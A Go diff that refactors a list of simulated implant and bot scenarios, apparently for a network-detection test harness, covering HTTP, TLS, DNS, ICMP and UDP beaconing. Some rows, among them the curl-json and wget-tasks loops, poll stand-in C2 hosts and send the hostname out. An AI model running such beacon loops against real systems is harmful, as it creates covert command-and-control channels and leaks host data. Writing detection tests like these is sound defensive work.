@@ -11,33 +11,31 @@ import (
 // otherBots: more ways in which an implant talks to its controller, and what else
 // bots do.
 func otherBots() []Scenario {
-	row := func(name string, limit time.Duration, line string, also ...attack.Class) Scenario {
-		return Scenario{Name: name, Class: attack.Bot, Also: also, Limit: limit, Play: func(ctx context.Context, r *Run) error { return callHome(ctx, r, line) }}
-	}
-	const some, long = 90 * time.Second, 210 * time.Second
+	some := family{class: attack.Bot, limit: 90 * time.Second, play: callHome}
+	long := some.within(210 * time.Second)
 	return []Scenario{
-		row("implant-json", some, "IMPLANT json C2:HTTP GAP JITTER 85"),
-		row("implant-form", some, "IMPLANT form C2:HTTP GAP JITTER 85"),
-		row("implant-cookie", some, "IMPLANT cookie C2:HTTP GAP JITTER 85"),
-		row("implant-json-tls", some, "IMPLANT jsons C2:TLS GAP JITTER 85"),
-		row("implant-cookie-tls", some, "IMPLANT cookies C2:TLS GAP JITTER 85"),
-		row("implant-rare-tls", long, "IMPLANT cookies C2:TLS RARE JITTER 205"),
-		row("implant-rare", long, "IMPLANT form C2:HTTP RARE JITTER 205"),
-		row("long-poll", some, "IMPLANT poll C2:HTTP 0.5 0.5 85"),
-		row("long-poll-tls", some, "IMPLANT polls C2:TLS 0.5 0.5 85"),
-		row("socket-channel", some, "IMPLANT socket C2:HTTP GAP JITTER 85"),
-		row("bare-channel", some, "IMPLANT tcp C2:BARE GAP JITTER 85"),
-		row("udp-heartbeat", some, "IMPLANT udp C2:DATAGRAM GAP JITTER 85"),
-		row("icmp-channel", some, "IMPLANT icmp C2 GAP JITTER 85"),
-		row("dns-names", some, "IMPLANT names DNS GAP JITTER 85"),
-		row("dns-txt", some, "IMPLANT txt DNS GAP JITTER 85"),
-		row("dns-cname", some, "IMPLANT cname DNS GAP JITTER 85"),
-		row("made-up-names", some, "IMPLANT made-up DNS 6 JITTER 80"),
-		row("telnet-worm", some, "IMPLANT telnet 203.0.113.1 0.05 0.5 30 & IMPLANT tcp C2:BARE GAP JITTER 80; wait", attack.PortScan),
-		row("udp-swarm", some, "IMPLANT swarm C2:16471 0.5 0.5 60"),
-		row("dead-controller", some, "IMPLANT jsons C2:4443 GAP JITTER 85"),
-		row("curl-json", some, "while :; do curl -s -k -o /dev/null -H 'Content-Type: application/json' -d '{\"id\":\"7f3a\",\"r\":\"b2s=\"}' https://C2:TLS/submit; sleep GAP; done"),
-		row("wget-tasks", some, "while :; do wget -q -O - http://C2:HTTP/tasks/$(hostname) | head -c 200; sleep GAP; done"),
+		some.row("implant-json", "IMPLANT json C2:HTTP GAP JITTER 85"),
+		some.row("implant-form", "IMPLANT form C2:HTTP GAP JITTER 85"),
+		some.row("implant-cookie", "IMPLANT cookie C2:HTTP GAP JITTER 85"),
+		some.row("implant-json-tls", "IMPLANT jsons C2:TLS GAP JITTER 85"),
+		some.row("implant-cookie-tls", "IMPLANT cookies C2:TLS GAP JITTER 85"),
+		long.row("implant-rare-tls", "IMPLANT cookies C2:TLS RARE JITTER 205"),
+		long.row("implant-rare", "IMPLANT form C2:HTTP RARE JITTER 205"),
+		some.row("long-poll", "IMPLANT poll C2:HTTP 0.5 0.5 85"),
+		some.row("long-poll-tls", "IMPLANT polls C2:TLS 0.5 0.5 85"),
+		some.row("socket-channel", "IMPLANT socket C2:HTTP GAP JITTER 85"),
+		some.row("bare-channel", "IMPLANT tcp C2:BARE GAP JITTER 85"),
+		some.row("udp-heartbeat", "IMPLANT udp C2:DATAGRAM GAP JITTER 85"),
+		some.row("icmp-channel", "IMPLANT icmp C2 GAP JITTER 85"),
+		some.row("dns-names", "IMPLANT names DNS GAP JITTER 85"),
+		some.row("dns-txt", "IMPLANT txt DNS GAP JITTER 85"),
+		some.row("dns-cname", "IMPLANT cname DNS GAP JITTER 85"),
+		some.row("made-up-names", "IMPLANT made-up DNS 6 JITTER 80"),
+		some.row("telnet-worm", "IMPLANT telnet 203.0.113.1 0.05 0.5 30 & IMPLANT tcp C2:BARE GAP JITTER 80; wait", attack.PortScan),
+		some.row("udp-swarm", "IMPLANT swarm C2:16471 0.5 0.5 60"),
+		some.row("dead-controller", "IMPLANT jsons C2:4443 GAP JITTER 85"),
+		some.row("curl-json", "while :; do curl -s -k -o /dev/null -H 'Content-Type: application/json' -d '{\"id\":\"7f3a\",\"r\":\"b2s=\"}' https://C2:TLS/submit; sleep GAP; done"),
+		some.row("wget-tasks", "while :; do wget -q -O - http://C2:HTTP/tasks/$(hostname) | head -c 200; sleep GAP; done"),
 	}
 }
 
